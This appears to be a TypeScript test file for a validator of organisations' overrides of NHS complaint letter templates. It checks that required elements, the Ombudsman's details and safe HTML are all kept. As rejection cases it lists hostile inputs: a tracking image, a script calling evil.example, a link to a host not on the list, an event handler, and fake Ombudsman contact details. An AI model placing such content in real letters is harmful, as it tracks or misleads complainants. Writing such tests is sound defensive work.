// Issue #14 point 7: an override that loses anything its template's front matter says the letter must say is
// refused, naming what; so is one that renders no readable sentence, a garbage body, and one that carries a
// tracking image, a link to a host not on the list, or {{log}}. And, by property: whatever is accepted still
// renders with every required element.
import fs from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { DEMO_ORGANISATIONS, type Organisation } from '@complaints/db';
import { listProfiles } from '@complaints/domain';
import { exampleContexts, exampleFacts, validateOverride } from '../override-validation';
import { TEMPLATES_DIR, variantDefinition, variantsOf } from '../template-catalogue';
import { formatLongDate } from '../template-helpers';
import { TEMPLATE_NAMES, type TemplateName, type TemplateVariant } from '../template-names';
import { TemplateRenderer } from '../template-renderer';
import { letterText, ombudsmanDetails, type ElementCheck } from '../template-requirements';

const renderer = new TemplateRenderer();
const HPFT = DEMO_ORGANISATIONS.find((organisation) => organisation.code === 'HPFT') as Organisation;
const partial = (name: string) =>
  fs.readFileSync(path.join(TEMPLATES_DIR, 'partials', `${name}.hbs`), 'utf8');
const FRAMES = ['letter', 'easy-read-letter', 'staff-email'];
/** Partials a body keeps calling by name: they take arguments, or (the Ombudsman's) are the fixed details. */
const KEPT = ['text-block', 'ombudsman', 'ombudsman-contact', 'easy-read-ombudsman'];

/** `{{#> letter signatory="Chief Executive"}}`: the frame's own `{{signatory}}` etc. as the caller gives them. */
function withArguments(frame: string, hash: string): string {
  let source = frame;
  for (const [, key, value] of hash.matchAll(/(\w+)=("[^"]*"|[\w.]+)/g)) {
    const literal = value.startsWith('"') ? value.slice(1, -1) : undefined;
    source = source
      .replaceAll(`{{${key}}}`, literal ?? `{{${value}}}`)
      .replaceAll(`{{#if ${key}}}`, `{{#if ${value}}}`)
      .replaceAll(`{{#unless ${key}}}`, `{{#unless ${value}}}`);
  }
  return source;
}

/** `{{> advocacy}}`, `{{> easy-read-contact contactHandler=true}}` and the like written out where they are called. */
function calledWrittenOut(source: string): string {
  let result = source;
  for (let round = 0; round < 3; round++)
    result = result.replace(
      /\{\{> ([\w-]+)((?: \w+=(?:"[^"]*"|[\w.]+))*)\}\}/g,
      (call, name: string, hash: string) => (KEPT.includes(name) ? call : withArguments(partial(name), hash)),
    );
  return result;
}

/**
 * The standard body with its frame and shared pieces written out in it: the same letter, as one source an
 * organisation could have written, so that each element can be taken out of it.
 */
function writtenOut(body: string): string {
  let source = body;
  for (const frame of FRAMES) {
    const open = new RegExp(`\\{\\{#> ${frame}( [^}]*)?\\}\\}`);
    const match = open.exec(source);
    if (!match) continue;
    const close = `{{/${frame}}}`;
    const inner = source.slice(match.index + match[0].length, source.lastIndexOf(close));
    source =
      source.slice(0, match.index) +
      withArguments(calledWrittenOut(partial(frame)), match[1] ?? '').replace(
        '{{> @partial-block}}',
        () => inner,
      ) +
      source.slice(source.lastIndexOf(close) + close.length);
  }
  return calledWrittenOut(source);
}

const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

/** The source without what shows one check: the values it prints, or the paragraphs that say it. */
function without(source: string, check: ElementCheck): string {
  const paths =
    'value' in check
      ? check.value
      : 'anyValue' in check
        ? check.anyValue
        : 'date' in check
          ? [check.date]
          : [];
  let result = source;
  for (const dotted of paths)
    result = result.replace(new RegExp(`\\{\\{(formatDate )?${escape(dotted)}\\}\\}`, 'g'), '');
  if ('value' in check && check.value.includes('organisation.letterhead.addressLines.0'))
    result = result.replace(
      /\{\{#each organisation\.letterhead\.addressLines\}\}[\s\S]*?\{\{\/each\}\}/g,
      '',
    );
  if ('says' in check) {
    const says = new RegExp(check.says, 'i');
    result = result.replace(/<(p|li|h2|h3)\b[^>]*>[\s\S]*?<\/\1>/g, (block) =>
      says.test(block) ? '' : block,
    );
  }
  if ('ombudsman' in check) result = result.replace(/\{\{> (easy-read-)?ombudsman route=[\w.]+\}\}/g, '');
  return result;
}

/** Every template and variant, each written out in full. */
const letters = TEMPLATE_NAMES.flatMap((name) =>
  variantsOf(name).map((variant) => [name, variant] as [TemplateName, TemplateVariant]),
);
const cases = letters.flatMap(([name, variant]) =>
  variantDefinition(name, variant)!.mustSay.map(
    (requirement) => [name, variant, requirement.element] as const,
  ),
);

describe('an override that loses an element its template says it must say', () => {
  it.each(letters)(
    '%s (%s), written out in full, is accepted (so each case below loses only its element)',
    (name, variant) => {
      const body = writtenOut(variantDefinition(name, variant)!.body);
      expect(body).not.toMatch(/\{\{#> (letter|easy-read-letter|staff-email)/);
      expect(validateOverride(renderer, HPFT, [], { name, variant, body })).toEqual([]);
    },
  );

  it.each(cases)('%s (%s) without %s is refused, naming it', (name, variant, element) => {
    const definition = variantDefinition(name, variant)!;
    const requirement = definition.mustSay.find((item) => item.element === element)!;
    const body = requirement.checks.reduce(without, writtenOut(definition.body));
    const problems = validateOverride(renderer, HPFT, [], { name, variant, body });
    expect(problems).toContainEqual({
      field: 'body',
      element,
      reason: expect.stringMatching(
        new RegExp(`^leaves out ${escape(element)}, which the letter must say \\(${name}`),
      ),
    });
  });
});

describe('an override is refused', () => {
  const validate = (name: TemplateName, body: string) =>
    validateOverride(renderer, HPFT, [], { name, variant: 'standard', body });
  const complete = writtenOut(variantDefinition('acknowledgement', 'standard')!.body);

  it.each(['o(X', 'ack', '<p>x</p>', '{{reference}}', '<p>{{reference}} {{formatDate today}}</p>'])(
    'when its whole body is a few stray characters or values: %j',
    (body) => {
      const problems = validate('acknowledgement', body);
      expect(problems.map((problem) => problem.element)).toEqual(
        expect.arrayContaining(['acknowledges', 'letterhead', 'signatory', 'readable-sentence']),
      );
      expect(problems.every((problem) => problem.field === 'body')).toBe(true);
    },
  );

  it.each([
    ['a tracking image', '<img src="https://tracker.example/p.gif?r={{reference}}" alt="">', /<img> element/],
    ['an image by CSS', '<p style="background:url(https://tracker.example/p.gif)">Hello there</p>', /CSS/],
    ['remote CSS', '<style>@import "https://cdn.example/letter.css";</style>', /CSS/],
    [
      'a link to a host not on the list',
      '<p><a href="https://evil.example/pay">Pay here</a></p>',
      /evil\.example/,
    ],
    ['a website not on the list', '<p>See www.evil.example for more.</p>', /evil\.example/],
    [
      'a link made from a value',
      '<p><a href="{{organisation.letterhead.email}}">Write</a></p>',
      /made from a value/,
    ],
    ['a script', '<script>fetch("https://evil.example")</script>', /<script> element/],
    ['an event handler', '<p onclick="go()">Click</p>', /onclick/],
    ['{{log}}', '{{log recipient.name}}', /\{\{log\}\}/],
    ['lookup', '<p>{{lookup organisation "name"}}</p>', /lookup/],
    [
      'an inline partial shadowing the Ombudsman',
      '{{#*inline "ombudsman"}}Call us instead.{{/inline}}',
      /inline partial/,
    ],
    ['a partial chosen by a value', '{{> (concat "letter" "head")}}', /chosen by a value/],
    ['triple-stash', '<p>{{{recipient.name}}}</p>', /unescaped/],
  ])('when it carries %s', (_what, extra, reason) => {
    const body = complete.replace('<p>Raising a complaint', `${extra}<p>Raising a complaint`);
    expect(validate('acknowledgement', body)).toContainEqual({
      field: 'body',
      reason: expect.stringMatching(reason),
    });
  });

  it('not for a link to a host on the list', () => {
    const body = complete.replace(
      '<p>Raising a complaint',
      '<p>Read about it at <a href="https://www.nhs.uk/using-the-nhs/">the NHS website</a>.</p><p>Raising a complaint',
    );
    expect(validate('acknowledgement', body)).toEqual([]);
  });

  it("when it changes the Ombudsman's details, or overrides their partial", () => {
    const body = writtenOut(variantDefinition('representative-decision', 'standard')!.body).replace(
      /\{\{> ombudsman route=facts\.ombudsman\}\}/,
      '<h2>If you are still not satisfied</h2><p>You can ask the Parliamentary and Health Service Ombudsman to look at it. Telephone 0300 000 0000.</p>',
    );
    expect(validate('representative-decision', body)).toContainEqual(
      expect.objectContaining({ field: 'body', element: 'ombudsman' }),
    );
    expect(
      validateOverride(renderer, HPFT, [], {
        name: 'ombudsman-contact',
        variant: 'standard',
        body: '<p>Call us.</p>',
      }),
    ).toEqual([{ field: 'name', reason: expect.stringContaining("holds the Ombudsman's details") }]);
  });

  it('when a subject line leaves out the reference', () => {
    expect(
      validateOverride(renderer, HPFT, [], {
        name: 'acknowledgement',
        variant: 'standard',
        subject: 'Your complaint',
      }),
    ).toContainEqual(expect.objectContaining({ field: 'subject', element: 'reference' }));
  });
});

describe('by property: an accepted acknowledgement still says all it must', () => {
  // Pieces an organisation might write, good and bad, and stray characters between them.
  const PIECES = [
    '<p>We acknowledge your complaint {{reference}}.</p>',
    '<p>This letter is our acknowledgement of your complaint.</p>',
    '<p>We will look into your complaint and aim to send you our full response within {{responseTimescale}}.</p>',
    '{{#if includes.whenToExpectReply}}<p>We aim to reply by {{formatDate replyExpectedBy}}.</p>{{/if}}',
    '<p>Quote {{reference}} when you contact us.</p>',
    '<p>{{formatDate today}}</p>',
    '{{> letterhead}}',
    '{{> signature}}',
    '{{> advocacy}}',
    '<p>Thank you for contacting us about your care and treatment.</p>',
    '<h2>Next</h2>',
  ];
  const body = fc
    .tuple(
      fc.boolean(),
      fc.array(fc.oneof(fc.constantFrom(...PIECES), fc.string({ maxLength: 6 })), { maxLength: 12 }),
    )
    .map(([framed, pieces]) => (framed ? `{{#> letter}}${pieces.join('')}{{/letter}}` : pieces.join('')));

  it('for every profile and example: reference, date, letterhead, contact, signatory, acknowledgement, next steps, by when', () => {
    let accepted = 0;
    fc.assert(
      fc.property(body, (source) => {
        const problems = validateOverride(renderer, HPFT, [], {
          name: 'acknowledgement',
          variant: 'standard',
          body: source,
        });
        if (problems.length > 0) return;
        accepted++;
        const trial = renderer.trial([
          { name: 'acknowledgement', variant: 'standard', version: 1, body: source },
        ]);
        for (const profile of listProfiles())
          for (const facts of exampleFacts('acknowledgement', profile))
            for (const context of exampleContexts(HPFT, profile, 'standard', facts)) {
              const text = letterText(trial.render('acknowledgement', 'standard', context).html);
              const { reference, today, signatory, replyExpectedBy, responseTimescale } = context as Record<
                string,
                string
              >;
              expect(text).toContain(reference);
              expect(text).toContain(formatLongDate(today));
              expect(text).toContain(HPFT.name);
              expect(text).toContain(HPFT.letterhead.addressLines![0]);
              expect(text).toContain(String(HPFT.letterhead.telephone ?? HPFT.letterhead.email));
              expect(text).toContain(signatory);
              expect(text).toMatch(/acknowledg/i);
              expect(text).toMatch(/look into your complaint|full re(ply|sponse)/i);
              const includes = context.includes as { whenToExpectReply: boolean };
              expect(
                text.includes(responseTimescale) ||
                  (includes.whenToExpectReply && text.includes(formatLongDate(replyExpectedBy))),
              ).toBe(true);
              expect(text).not.toMatch(/<img|src=/i);
            }
      }),
      { numRuns: 150, seed: 14 },
    );
    // The property says something only if some bodies were accepted.
    expect(accepted).toBeGreaterThan(0);
  });

  it("for a decision letter: the Ombudsman's fixed details", () => {
    const route = 'phso';
    expect(ombudsmanDetails(route, TEMPLATES_DIR)).toContain('0345 015 4033');
  });
});
